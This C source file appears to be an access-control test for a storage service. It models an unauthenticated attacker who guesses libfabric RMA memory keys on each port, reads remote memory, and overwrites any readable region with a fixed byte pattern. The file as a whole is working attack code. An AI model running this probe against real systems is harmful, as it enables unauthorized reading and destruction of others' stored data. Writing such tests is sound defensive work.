/* stranger.c: a process with no token that found a storage unit's ports tries libfabric RMA on them. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>

/*
 * usage: stranger HOST PORT...
 *
 * What an attacker on the unit's network does with what a port scan gives:
 * for every port, an RDM endpoint of the provider FI_PROVIDER names (tcp by
 * default) addresses HOST:PORT and reads STRANGER_LEN bytes at offset 0
 * with the keys a simple registration scheme hands out (1, 2, ..., and 0)
 * and a few random ones; with a key that reads, it reads the offsets 0,
 * STRANGER_LEN, ... and writes STRANGER_PATTERN over each. A failed try may cost the
 * connection (libfabric's tcp provider drops a peer that names a key it
 * does not have), so the endpoint is made anew after each. Each port is
 * tried in a child process with an alarm, so a port that speaks something
 * else costs only time. Prints one line per success and a summary.
 * Exit status: 0 when nothing was read or written; 3 when something was;
 * 1 when no endpoint could be made at all; 2 for bad usage.
 */
#define STRANGER_LEN        4096u
#define STRANGER_OFFSETS    16u
#define STRANGER_SMALL_KEYS 9u  /* 0 .. 8 */
#define STRANGER_RANDOM     4u
#define STRANGER_OP_MS      1500
#define STRANGER_PORT_MS    20000 /* then on to the next port */
#define STRANGER_PORT_S     60    /* an alarm, should a call block */
#define STRANGER_PATTERN    0x5a

static uint64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * 1000u + (uint64_t)ts.tv_nsec / 1000000u;
}

typedef struct {
    struct fi_info    *info;
    struct fid_fabric *fabric;
    struct fid_domain *domain;
    struct fid_av     *av;
    struct fid_cq     *cq;
    struct fid_ep     *ep;
    fi_addr_t          peer;
} stranger_ep_t;

static void ep_close(stranger_ep_t *s)
{
    if (s->ep != NULL)
        fi_close(&s->ep->fid);
    if (s->av != NULL)
        fi_close(&s->av->fid);
    if (s->cq != NULL)
        fi_close(&s->cq->fid);
    if (s->domain != NULL)
        fi_close(&s->domain->fid);
    if (s->fabric != NULL)
        fi_close(&s->fabric->fid);
    if (s->info != NULL)
        fi_freeinfo(s->info);
    memset(s, 0, sizeof(*s));
}

static int ep_open(stranger_ep_t *s, const struct sockaddr_in *peer)
{
    memset(s, 0, sizeof(*s));
    struct fi_info *hints = fi_allocinfo();
    if (hints == NULL)
        return -FI_ENOMEM;
    hints->caps = FI_RMA | FI_READ | FI_WRITE;
    hints->mode = FI_CONTEXT | FI_CONTEXT2;
    hints->ep_attr->type = FI_EP_RDM;
    hints->addr_format = FI_SOCKADDR_IN;
    hints->domain_attr->mr_mode = FI_MR_VIRT_ADDR | FI_MR_ALLOCATED | FI_MR_PROV_KEY;
    int ret = fi_getinfo(FI_VERSION(1, 12), NULL, NULL, 0, hints, &s->info);
    fi_freeinfo(hints);
    if (ret != 0)
        return ret;
    struct fi_av_attr aa = {.type = FI_AV_TABLE};
    struct fi_cq_attr ca = {.format = FI_CQ_FORMAT_CONTEXT, .size = 64};
    if ((ret = fi_fabric(s->info->fabric_attr, &s->fabric, NULL)) != 0 ||
        (ret = fi_domain(s->fabric, s->info, &s->domain, NULL)) != 0 ||
        (ret = fi_av_open(s->domain, &aa, &s->av, NULL)) != 0 ||
        (ret = fi_cq_open(s->domain, &ca, &s->cq, NULL)) != 0 ||
        (ret = fi_endpoint(s->domain, s->info, &s->ep, NULL)) != 0 ||
        (ret = fi_ep_bind(s->ep, &s->av->fid, 0)) != 0 ||
        (ret = fi_ep_bind(s->ep, &s->cq->fid, FI_TRANSMIT | FI_RECV)) != 0 ||
        (ret = fi_enable(s->ep)) != 0)
        return ret;
    if (fi_av_insert(s->av, peer, 1, &s->peer, 0, NULL) != 1)
        return -FI_EADDRNOTAVAIL;
    return 0;
}

/* One read or write; 0 when it completed without error, 1 when it failed,
 * -1 when nothing came back in time (the endpoint is then useless). */
static int op(stranger_ep_t *s, bool write, void *buf, uint64_t off, uint64_t key)
{
    struct fi_context2 ctx;
    uint64_t deadline = now_ms() + STRANGER_OP_MS;
    ssize_t ret;
    do {
        ret = write ? fi_write(s->ep, buf, STRANGER_LEN, NULL, s->peer, off, key, &ctx)
                    : fi_read(s->ep, buf, STRANGER_LEN, NULL, s->peer, off, key, &ctx);
        if (ret == -FI_EAGAIN) {
            struct fi_cq_entry e;
            (void)fi_cq_read(s->cq, &e, 1);
        }
    } while (ret == -FI_EAGAIN && now_ms() < deadline);
    if (ret != 0)
        return ret == -FI_EAGAIN ? -1 : 1;
    while (now_ms() < deadline) {
        struct fi_cq_entry e;
        ssize_t n = fi_cq_read(s->cq, &e, 1);
        if (n == 1)
            return 0;
        if (n == -FI_EAVAIL) {
            struct fi_cq_err_entry err = {0};
            (void)fi_cq_readerr(s->cq, &err, 0);
            return 1;
        }
        if (n != -FI_EAGAIN)
            return 1;
        usleep(200);
    }
    return -1;
}

/* Try every key and offset on one port. @return successes, or -1 when no
 * endpoint could be made. */
static int try_port(const char *host, uint16_t port)
{
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(port)};
    if (inet_pton(AF_INET, host, &peer.sin_addr) != 1)
        return -1;
    stranger_ep_t s = {0};
    int ret = ep_open(&s, &peer);
    if (ret != 0) {
        fprintf(stderr, "stranger: port %u: no endpoint: %s\n", port, fi_strerror(-ret));
        return -1;
    }
    uint64_t keys[STRANGER_SMALL_KEYS + STRANGER_RANDOM];
    for (unsigned k = 0; k < STRANGER_SMALL_KEYS; k++)
        keys[k] = (k + 1) % STRANGER_SMALL_KEYS; /* 1, 2, ..., 8, 0 */
    if (getrandom(keys + STRANGER_SMALL_KEYS, sizeof(uint64_t) * STRANGER_RANDOM, 0) < 0)
        memset(keys + STRANGER_SMALL_KEYS, 0xff, sizeof(uint64_t) * STRANGER_RANDOM);
    static uint8_t buf[STRANGER_LEN], pattern[STRANGER_LEN];
    memset(pattern, STRANGER_PATTERN, sizeof(pattern));
    int wins = 0, tries = 0;
    uint64_t deadline = now_ms() + STRANGER_PORT_MS;
    for (unsigned k = 0; k < STRANGER_SMALL_KEYS + STRANGER_RANDOM && now_ms() < deadline; k++) {
        for (unsigned o = 0; o < STRANGER_OFFSETS && now_ms() < deadline; o++) {
            uint64_t off = (uint64_t)o * STRANGER_LEN;
            memset(buf, 0, sizeof(buf));
            tries++;
            int r = op(&s, false, buf, off, keys[k]);
            if (r < 0) {
                printf("stranger: port %u: no answer (after %d tries): giving up on it\n", port,
                       tries);
                fflush(stdout);
                return wins;
            }
            if (r != 0) {
                ep_close(&s);
                if ((ret = ep_open(&s, &peer)) != 0) {
                    printf("stranger: port %u: no endpoint after %d tries: %s\n", port, tries,
                           fi_strerror(-ret));
                    return wins;
                }
                break; /* a key that does not read at offset 0 reads nowhere */
            }
            unsigned nonzero = 0;
            for (size_t i = 0; i < sizeof(buf); i++)
                nonzero += buf[i] != 0;
            printf("stranger: port %u key %#llx offset %llu: READ %u bytes (%u not zero)\n", port,
                   (unsigned long long)keys[k], (unsigned long long)off, STRANGER_LEN, nonzero);
            wins++;
            if (op(&s, true, pattern, off, keys[k]) == 0) {
                printf("stranger: port %u key %#llx offset %llu: WROTE %u bytes\n", port,
                       (unsigned long long)keys[k], (unsigned long long)off, STRANGER_LEN);
                wins++;
            }
            fflush(stdout);
        }
    }
    printf("stranger: port %u: %d tries, %d succeeded\n", port, tries, wins);
    fflush(stdout);
    ep_close(&s);
    return wins;
}

int main(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: stranger HOST PORT...\n");
        return 2;
    }
    if (getenv("FI_PROVIDER") == NULL)
        setenv("FI_PROVIDER", "tcp", 1);
    int wins = 0, ports = 0, opened = 0;
    for (int i = 2; i < argc; i++) {
        uint16_t port = (uint16_t)atoi(argv[i]);
        fflush(stdout);
        pid_t pid = fork();
        if (pid == 0) {
            alarm(STRANGER_PORT_S);
            int w = try_port(argv[1], port);
            fflush(stdout);
            _exit(w < 0 ? 255 : w > 100 ? 100 : w);
        }
        int st = 0;
        if (pid < 0 || waitpid(pid, &st, 0) != pid)
            continue;
        ports++;
        if (WIFEXITED(st) && WEXITSTATUS(st) != 255) {
            opened++;
            wins += WEXITSTATUS(st);
        } else if (WIFSIGNALED(st)) {
            printf("stranger: port %u: child ended by signal %d\n", port, WTERMSIG(st));
            opened++;
        }
    }
    printf("stranger: %d ports, %d with an endpoint; %d reads and writes succeeded\n", ports,
           opened, wins);
    return wins > 0 ? 3 : opened == 0 ? 1 : 0;
}
